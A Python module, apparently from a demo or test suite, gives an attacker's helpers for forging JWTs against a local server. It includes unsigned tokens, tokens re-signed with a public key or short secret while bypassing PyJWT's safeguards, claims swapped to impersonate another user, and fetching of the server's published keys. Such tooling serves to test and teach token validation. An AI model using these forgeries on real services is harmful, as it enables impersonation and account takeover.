"""Tools of an attacker who has a token and PyJWT, but none of the server's keys."""

import secrets
from functools import cache

import jwt
from jwt.algorithms import get_default_algorithms
from jwt.utils import base64url_encode

from authcompare.server.keys import KEY_TYPES, public_pem
from tokens_demo.inspector.samples import encoded


def claims(token):
    """Return the claims of a token, unverified."""
    return jwt.decode(token, options={"verify_signature": False})


def algorithm(token):
    return jwt.get_unverified_header(token)["alg"]


def claims_naming(token, user):
    """Return the claims of this token with another user in them."""
    own = claims(token)
    names = {"sub": str(user["id"]), "username": user["username"]}
    return own | {claim: name for claim, name in names.items() if claim in own}


def signed(payload, alg, key, **header):
    """Return a token with these claims.

    It does not use `jwt.encode`, which refuses what only an attacker does: a short word or a public key as the secret.
    """
    message = f"{encoded({'alg': alg, 'typ': 'JWT', **header})}.{encoded(payload)}"
    signature = get_default_algorithms()[alg].sign(message.encode(), key)
    return f"{message}.{base64url_encode(signature).decode()}"


def unsigned(payload, alg):
    """Return a token with these claims and an empty signature."""
    return f"{encoded({'alg': alg, 'typ': 'JWT'})}.{encoded(payload)}."


def with_changed_claims(token, **changes):
    """Return a real token with changed claims and its old signature."""
    header, _payload, signature = token.split(".")
    return f"{header}.{encoded(claims(token) | changes)}.{signature}"


@cache
def own_key(alg):
    """Return an attacker's key for this algorithm."""
    return KEY_TYPES[alg].generate() if alg in KEY_TYPES else secrets.token_bytes(32)


def published_keys(actors):
    """Return the server's published keys as PEM."""
    with actors.client() as client:
        keys = client.get("/.well-known/jwks.json").raise_for_status().json()["keys"]
    return [public_pem(jwt.PyJWK(key).key).encode() for key in keys]
